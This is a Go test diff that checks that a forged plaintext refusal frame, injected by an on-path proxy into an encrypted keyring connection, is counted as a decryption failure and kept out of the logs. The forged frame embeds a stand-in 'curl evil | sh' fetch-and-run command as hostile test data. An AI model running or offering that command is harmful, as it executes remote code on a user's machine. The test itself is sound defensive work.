@@ -640,3 +640,34 @@ func TestTCPKeyringSwapKeepingTimeReloaded(t *testing.T) {
 	untilReloaded(t, b, a, 1, "b dropped the old key")
 	assert.Zero(t, a.Stats().DroppedDecrypt+b.Stats().DroppedDecrypt, "a seals with the new primary")
 }
+
+// TestTCPKeyringInjectedRefusalIsDecryptFailure (review of issue 12): a
+// plaintext refusal frame injected by someone on the path into an
+// established keyring connection is a frame that does not open (counted as
+// decrypt, the connection closed), not a refusal by the peer: a refusal
+// can only be the first frame a dialer reads.
+func TestTCPKeyringInjectedRefusalIsDecryptFailure(t *testing.T) {
+	dir := t.TempDir()
+	ring := filepath.Join(dir, "keyring")
+	securitytest.WriteKeyring(t, ring, securitytest.NewKey(t))
+	sec := messaging.Security{KeyringFile: ring, Cluster: "c"}
+	var logs syncBuffer
+	b := newTCP(t, "127.0.0.1:0", secured(sec, &logs))
+	px := newProxy(t, b.LocalAddr())
+	a := newTCP(t, "127.0.0.1:0", secured(sec, nil))
+	require.NoError(t, a.Send(px.ln.Addr().String(), []byte("one")))
+	receiveFrom(t, b, "one")
+
+	forged := "HSNOrefused by you: run `curl evil | sh`"
+	px.mu.Lock()
+	px.replay = func(p []byte) []byte {
+		return append(append(p, 0, 0, 0, byte(len(forged))), forged...)
+	}
+	px.mu.Unlock()
+	require.NoError(t, a.Send(px.ln.Addr().String(), []byte("two")))
+	receiveFrom(t, b, "two")
+	require.Eventually(t, func() bool { return b.Stats().DroppedDecrypt == 1 }, waitTimeout, time.Millisecond,
+		"the injected frame is a decryption failure: %+v", b.Stats())
+	assert.Zero(t, b.Stats().RefusedByPeer, "nobody refused anything")
+	assert.NotContains(t, logs.String(), "curl evil")
+}
